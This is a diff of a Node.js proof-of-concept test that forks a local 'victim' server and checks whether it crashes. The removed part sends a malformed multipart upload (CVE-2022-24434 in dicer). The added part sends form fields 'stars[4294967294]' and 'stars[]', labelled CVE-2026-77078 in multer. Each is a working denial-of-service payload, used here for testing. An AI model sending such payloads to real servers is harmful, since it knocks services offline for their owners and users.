@@ -1,30 +1,18 @@
 'use strict';
 
-// CVE-2022-24434: a part of an upload whose first header starts with a space continues a header that
-// is not there. dicer throws where nobody can catch it, and the server stops. Runs the server as a process of its own, to see it die.
+// CVE-2026-77078: one field whose name holds the largest array index there is, and another that adds
+// to the same array. multer's helper throws where nobody can catch it, and the server stops.
 const { fork } = require('child_process');
+const path = require('path');
 
-const shop = `
-  const { createApp } = require('../src/app');
-  const server = createApp().listen(0, '127.0.0.1', () => process.send(server.address().port));
-`;
-const server = fork('-e', [shop], { cwd: __dirname, execArgv: [], silent: true });
+const server = fork(path.join(__dirname, 'victim.js'), { silent: true });
 const stopped = new Promise((resolve) => server.once('exit', (code) => resolve(code !== 0)));
 
 server.once('message', async (port) => {
-  const body = [
-    '------x',
-    ' Content-Disposition: form-data; name="stars"',
-    '',
-    '5',
-    '------x--',
-    '',
-  ].join('\r\n');
-  fetch(`http://127.0.0.1:${port}/reviews/mug`, {
-    method: 'POST',
-    headers: { 'content-type': 'multipart/form-data; boundary=----x' },
-    body,
-  }).catch(() => {});
+  const form = new FormData();
+  form.append('stars[4294967294]', '5');
+  form.append('stars[]', '5');
+  fetch(`http://127.0.0.1:${port}/reviews/mug`, { method: 'POST', body: form }).catch(() => {});
   const crashed = await Promise.race([
     stopped,
     new Promise((resolve) => setTimeout(resolve, 1500, false)),
